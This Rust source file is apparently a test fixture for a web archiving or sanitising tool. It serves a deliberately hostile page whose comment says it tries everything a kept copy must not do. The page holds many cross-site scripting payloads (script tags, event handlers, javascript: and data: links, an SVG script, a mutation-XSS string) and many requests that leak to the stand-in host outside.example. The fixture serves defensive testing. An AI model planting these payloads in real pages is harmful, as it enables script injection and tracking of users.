//! `hostile.example`: a page that tries everything a kept copy must not do. `outside.example` is where it would leak to, so a story
//! can see in the requests whether it did.

use super::{Answer, Asked, PIXEL};

pub(super) fn answer(asked: &Asked) -> Answer {
    match asked.path() {
        "/page" => page(),
        "/style.css" => Answer::new(
            200,
            "text/css",
            "@import 'https://outside.example/leak.css'; @import url(\"//outside.example/leak2.css\");\
             h1{background:url(https://outside.example/leak3.gif)} p{background:u\\72l(https://outside.example/leak4.gif)}\
             @font-face{font-family:x;src:url(https://outside.example/leak5.woff2)}",
        ),
        "/picture.gif" => Answer::new(200, "image/gif", PIXEL),
        "/drawing.svg" => Answer::new(
            200,
            "image/svg+xml",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>fetch('https://outside.example/leak6')</script><rect width=\"9\" height=\"9\"/></svg>",
        ),
        "/steal.js" => Answer::new(200, "text/javascript", "fetch('/desk').then(r=>r.text())"),
        "/text-that-is-script" => Answer::new(200, "text/plain", "document.title='A script ran'"),
        _ => Answer::not_found(),
    }
}

fn page() -> Answer {
    Answer::html(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A quiet page</title>
<base href="https://outside.example/"><meta http-equiv="refresh" content="0;url=https://outside.example/leak7">
<link rel="stylesheet" href="https://hostile.example/style.css"><link rel="preload" as="image" href="https://outside.example/leak8.gif">
<link rel="dns-prefetch" href="//outside.example"><script src="https://hostile.example/steal.js"></script>
<style>body{background:url('https://outside.example/leak9.gif')} @import "https://outside.example/leak10.css";</style></head>
<body onload="document.title='A script ran'" style="background-image:url(https://outside.example/leak11.gif)">
<h1 onclick="alert(1)">A quiet page</h1>
<p id="quiet">The lamps along the quay are lit by hand, one after another, from the lock to the lighthouse.</p>
<img src="https://hostile.example/picture.gif" srcset="https://outside.example/leak12.gif 2x" onerror="alert(1)" alt="A lamp">
<img src="https://hostile.example/drawing.svg" alt="A drawing">
<svg><script>document.title='A script ran'</script><use href="https://outside.example/leak13.svg#x"/><image href="https://outside.example/leak14.gif"/></svg>
<iframe src="https://outside.example/leak15"></iframe><iframe srcdoc="&lt;script&gt;document.title='A script ran'&lt;/script&gt;"></iframe>
<object data="https://outside.example/leak16"></object><embed src="https://outside.example/leak17">
<video src="https://outside.example/leak18.mp4" poster="https://outside.example/leak19.gif"></video><audio src="https://outside.example/leak20.mp3"></audio>
<form action="https://outside.example/leak21"><input name="q" autofocus onfocus="this.form.submit()"><button formaction="javascript:alert(1)">Go</button></form>
<a href="javascript:document.title='A script ran'">A link</a> <a href="data:text/html,<script>alert(1)</script>">Another</a>
<a ping="https://outside.example/leak22" href="https://ministry.example/releases/dredging">The release</a>
<noscript><img src="https://outside.example/leak23.gif"></noscript><template><script>alert(1)</script></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<script>document.title='A script ran'; new WebSocket('wss://outside.example/leak24'); navigator.serviceWorker.register('/steal.js');
document.querySelector('#quiet').textContent='A script ran';</script>
</body></html>"#,
    )
}
